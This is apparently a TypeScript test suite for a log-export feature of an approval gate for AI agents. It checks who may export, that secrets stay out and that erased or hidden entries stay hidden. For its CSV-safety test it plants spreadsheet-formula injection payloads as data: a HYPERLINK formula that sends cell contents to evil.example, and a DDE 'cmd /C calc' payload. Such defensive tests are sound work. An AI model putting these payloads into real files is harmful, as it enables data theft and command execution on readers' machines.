/** Taking the log away as a file: who may, what is never in it, what is recorded of it, and what a spreadsheet would run. */
import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import { exportLog, exportsMax, operatorReader } from '../../src/app/log-export.ts';
import { wantedFrom } from '../../src/app/log-wanted.ts';
import { review } from '../../src/app/review.ts';
import type { Case } from '../../src/core/case.ts';
import { aboutNothing, type Sealed } from '../../src/core/entry.ts';
import { csvColumns } from '../../src/core/log-export/csv.ts';
import { asPersonId } from '../../src/core/ids.ts';
import { newToken } from '../../src/identity/tokens.ts';
import type { Store } from '../../src/ports/store.ts';
import { openPages, type PagesGate } from '../http/pages/support.ts';

const formats = ['csv', 'jsonl', 'ocsf'] as const;
const secret = 'AKIAIOSFODNN7EXAMPLE';
const formula = '=HYPERLINK("http://evil.example/?x="&A1)';

let gate: PagesGate;
before(async () => {
  gate = await openPages();
  const held = await gate.ask('write_file', { path: formula, content: `key = ${secret}` });
  await said(held, 'deny', '=1+cmd|" /C calc"!A0');
  await gate.ask('export_rows', { table: 'customers', destination: 'here' }, { session: '-2+3' });
});
after(() => gate.close());

async function said(held: Case, decision: 'approve' | 'deny', reason: string): Promise<void> {
  assert.ok(held.approval);
  const done = await review(gate.parts, { kind: 'person', id: asPersonId('rosa') }, held.approval.id, {
    decision,
    digest: held.asked.digest,
    reason,
    unsafe: false,
    channel: 'api',
    shownWhole: true,
  });
  assert.ok(done.ok, JSON.stringify(done));
}

async function bearer(at: PagesGate, id: string): Promise<Record<string, string>> {
  const made = newToken(at.parts.random, 'person');
  const principal = { kind: 'person', id: asPersonId(id) } as const;
  assert.ok((await at.parts.store.change({ kind: 'token', principal, hash: made.hash })).ok);
  return { authorization: `Bearer ${made.token}` };
}

const call = async (path: string, headers: Record<string, string>, method = 'GET', at = gate) => {
  const response = await at.handler(new Request(at.origin + path, { method, headers }));
  return { status: response.status, headers: response.headers, text: await response.text() };
};

const exportsIn = async (store: Store) =>
  (await store.entries(-1, 1000))
    .filter(({ entry }) => entry.type === 'log.exported')
    .map((one) => one.entry);

/** RFC 4180, read strictly: a stray quote fails. */
function cellsOf(text: string): readonly (readonly string[])[] {
  const rows: string[][] = [];
  let row: string[] = [];
  let at = 0;
  while (at < text.length) {
    let cell = '';
    if (text[at] === '"') {
      for (at += 1; ; at += 1) {
        assert.ok(at < text.length, 'a quote that nothing closes');
        if (text[at] !== '"') cell += text[at];
        else if (text[at + 1] === '"') {
          cell += '"';
          at += 1;
        } else break;
      }
      at += 1;
    } else for (; at < text.length && text[at] !== ',' && text[at] !== '\r'; at += 1) cell += text[at];
    row.push(cell);
    if (text[at] === ',') at += 1;
    else {
      assert.equal(text.slice(at, at + 2), '\r\n');
      at += 2;
      rows.push(row);
      row = [];
    }
  }
  return rows;
}

test('whoever is no auditor takes nothing, by page or API, and nothing is recorded of a grant that was none', async () => {
  const { store } = gate.parts;
  for (const id of ['rosa', 'sam', 'olga', 'tom']) {
    const session = await gate.signIn(id);
    const page = await gate.post(session, '/log/export', { format: 'csv' });
    assert.equal(page.status, 403, id);
    assert.ok(!page.text.includes('customers'), id);
    const api = await call('/v1/log/export?format=jsonl', await bearer(gate, id));
    assert.deepEqual([api.status, api.text.includes('customers')], [403, false], id);
  }
  assert.equal((await call('/v1/log/export?format=csv', {})).status, 401);
  const agent = newToken(gate.parts.random, 'agent');
  const principal = { kind: 'agent', id: (await store.directory()).agents[0]?.id } as never;
  assert.ok((await store.change({ kind: 'token', principal, hash: agent.hash })).ok);
  const asked = await call('/v1/log/export?format=csv', { authorization: `Bearer ${agent.token}` });
  assert.equal(asked.status, 403);
  // A page of another origin has no token of ours; nor has a link.
  const ada = await gate.signIn('ada');
  assert.notEqual((await gate.post({ ...ada, csrf: 'x' }, '/log/export', { format: 'csv' })).status, 200);
  assert.equal((await gate.get(ada, '/log/export')).status, 405);
  assert.deepEqual(await exportsIn(store), []);
});

test('an auditor takes it, and who took how many rows of what is in the log before the first row', async () => {
  const { store } = gate.parts;
  const ada = await bearer(gate, 'ada');
  const { size } = await store.head();
  const answer = await gate.handler(
    new Request(`${gate.origin}/v1/log/export?format=jsonl`, { headers: ada }),
  );
  assert.equal(answer.status, 200);
  const [entry] = await exportsIn(store);
  assert.deepEqual(entry?.data, { format: 'jsonl', rows: size, query: { size } }, 'before anything was read');
  assert.deepEqual(entry.by, { kind: 'person', id: 'ada' });
  const rows = (await answer.text()).trimEnd().split('\n');
  assert.equal(rows.length, size);
  assert.equal(answer.headers.get('countersign-rows'), String(size));
  assert.match(
    answer.headers.get('content-disposition') ?? '',
    /^attachment; filename="countersign-log-0-\d+\.jsonl"$/,
  );
  // What only asks how it would be answered takes nothing.
  const many = (await exportsIn(store)).length;
  assert.equal((await call('/v1/log/export?format=csv', ada, 'HEAD')).text, '');
  for (const wrong of [
    '',
    '?format=xlsx',
    '?format=csv&type=nonsense',
    '?format=csv&from=yesterday',
    '?format=csv&verdict=maybe',
  ])
    assert.equal((await call(`/v1/log/export${wrong}`, ada)).status, 400, wrong);
  assert.equal((await exportsIn(store)).length, many);
});

test('no format holds a secret, and none is found by its beginning, by its whole or as a resource', async () => {
  const ada = await bearer(gate, 'ada');
  for (const format of formats) {
    const { status, text } = await call(`/v1/log/export?format=${format}`, ada);
    assert.equal(status, 200);
    assert.ok(text.includes('HYPERLINK'), `${format}: what is no secret is there`);
    assert.ok(!text.includes(secret) && !text.includes('AKIAIOSF'), format);
  }
  for (const guess of ['AKIAIO', secret, `s3://${secret}/x`])
    for (const field of ['text', 'resource']) {
      // Of what was asked: the search itself is in the log too.
      const query = new URLSearchParams({ type: 'action.asked', [field]: guess }).toString();
      const found = await call(`/v1/log/export?format=jsonl&${query}`, ada);
      assert.deepEqual([found.status, found.text], [200, ''], `${field}=${guess}`);
      const list = await call(`/v1/log?${query}`, ada);
      assert.match(list.text, /^\{"items":\[\]/);
    }
  const kept = await gate.ask('write_file', { path: `/keys/${secret}`, content: 'x' });
  assert.ok(kept.asked.action.resource.id.includes(secret) || kept.asked.action.resource.type === 'Server');
  const query = `format=jsonl&resource=${encodeURIComponent(`/keys/${secret}`)}`;
  assert.equal((await call(`/v1/log/export?${query}`, ada)).text, '');
  const whole = (await gate.parts.store.entries(-1, 1000)).map((one) => one.statement).join('');
  assert.ok(!whole.includes(`"text":"${secret}"`), 'a secret that somebody looks for is not recorded');
});

test('no cell of the CSV is a formula, whatever an agent or a person wrote; it reads back as it was', async () => {
  const { text } = await call('/v1/log/export?format=csv', await bearer(gate, 'ada'));
  const [head, ...rows] = cellsOf(text);
  assert.deepEqual(head, csvColumns);
  assert.ok(rows.length > 5);
  for (const row of rows) {
    assert.equal(row.length, csvColumns.length);
    for (const cell of row) assert.doesNotMatch(cell, /^\s*[=+\-@＝＋－＠\t\r]/, cell);
  }
  const resources = rows.map((row) => row[csvColumns.indexOf('resource_id')]);
  assert.ok(resources.includes(`'${formula}`), 'it is there, and is text');
  const data = rows.map((row) => row[csvColumns.indexOf('data')] ?? '');
  assert.ok(data.some((one) => JSON.stringify(JSON.parse(one)).includes('calc')));
});

test('an erased entry says so in every format, and nothing else of it is left', async () => {
  const { store } = gate.parts;
  const query = { ...wantedFrom(() => null), type: 'action.asked' };
  for (const format of formats) {
    // As the store reads an entry whose statement is blank (store/world-rows.ts); its action may still be there.
    const erased = {
      ...store,
      change: (command: Parameters<Store['change']>[0]) => store.change(command),
      head: () => store.head(),
      indexAt: (atMs: number) => store.indexAt(atMs),
      casesOf: (actions: Parameters<Store['casesOf']>[0]) => store.casesOf(actions),
      async scanLog(one: Parameters<Store['scanLog']>[0]) {
        const found = await store.scanLog(one);
        return { ...found, entries: found.entries.map(blanked) };
      },
    };
    const reader = operatorReader(erased, await store.directory());
    const asked = { wanted: query, format, version: '1.9.0', origin: 'gate.test' } as const;
    const made = await exportLog(erased, reader, asked);
    assert.ok(made.ok && made.value.rows > 0);
    let text = '';
    for await (const piece of made.value.pieces) text += piece;
    assert.match(text, /was erased/, format);
    assert.doesNotMatch(text, /customers|crm-bot|HYPERLINK/, format);
    const [first] = (await store.entries(-1, 1000)).filter(({ entry }) => entry.type === 'action.asked');
    assert.ok(text.includes(first?.pae ?? 'nothing'), `${format}: its digest stays`);
  }
});

const blanked = (one: Sealed): Sealed => ({
  ...one,
  statement: '',
  entry: {
    index: one.entry.index,
    at: one.entry.at,
    type: one.entry.type,
    by: { kind: 'gate' },
    about: aboutNothing,
    data: {},
    erased: true,
  },
});

test('what a policy keeps from an auditor is in no export, and no filter of one tells of it', async () => {
  const one = await openPages({
    forbids: `
@id("hr.auditors") @title("Auditors see no inputs")
forbid (principal, action == Action::"read_input", resource) when { principal in context.roles.auditors };`,
  });
  try {
    await one.ask(
      'export_rows',
      { table: 'MARKED-table', destination: 'MARKED-there' },
      { reason: 'MARKED-why' },
    );
    const ada = await bearer(one, 'ada');
    for (const format of formats) {
      const { status, text } = await call(`/v1/log/export?format=${format}`, ada, 'GET', one);
      assert.equal(status, 200);
      assert.doesNotMatch(text, /MARKED/i, format);
      assert.match(text, /crm-bot/, 'whose it is, is no secret');
    }
    for (const query of ['text=MARKED', 'resource=MARKED-table', 'text=marked-there']) {
      const { text } = await call(`/v1/log/export?format=jsonl&${query}`, ada, 'GET', one);
      assert.equal(text, '', query);
    }
    const agent = await call('/v1/log/export?format=jsonl&agent=crm-bot&verdict=allow', ada, 'GET', one);
    assert.ok(agent.text.length > 0);
  } finally {
    await one.close();
  }
});

test('so many exports at once and no more; one that is left frees its place', async () => {
  const { store } = gate.parts;
  const reader = operatorReader(store, await store.directory());
  const asked = {
    wanted: wantedFrom(() => null),
    format: 'jsonl',
    version: '1.8.0',
    origin: 'gate.test',
  } as const;
  const begun = [];
  for (let times = 0; times < exportsMax; times += 1) {
    const made = await exportLog(store, reader, asked);
    assert.ok(made.ok);
    await made.value.pieces.next();
    begun.push(made.value);
  }
  const refused = await exportLog(store, reader, asked);
  assert.equal(refused.ok ? null : refused.error.code, 'quota');
  for (const one of begun) await one.pieces.return();
  const again = await exportLog(store, reader, asked);
  assert.ok(again.ok);
  await again.value.pieces.return();
  // One that was never begun frees its place too.
  for (let times = 0; times < exportsMax + 1; times += 1) {
    const made = await exportLog(store, reader, asked);
    assert.ok(made.ok, String(times));
    await made.value.pieces.return();
  }
});

test('where the log cannot be written nothing is given out', async () => {
  const { store } = gate.parts;
  const broken = {
    change: () => Promise.resolve({ ok: false, error: { kind: 'fault', detail: 'full' } } as const),
    head: () => store.head(),
    indexAt: (atMs: number) => store.indexAt(atMs),
    scanLog: (query: Parameters<Store['scanLog']>[0]) => store.scanLog(query),
    casesOf: (actions: Parameters<Store['casesOf']>[0]) => store.casesOf(actions),
  };
  const asked = {
    wanted: wantedFrom(() => null),
    format: 'csv',
    version: '1.8.0',
    origin: 'gate.test',
  } as const;
  const made = await exportLog(broken, operatorReader(broken, await store.directory()), asked);
  assert.equal(made.ok ? null : made.error.code, 'audit_unavailable');
});
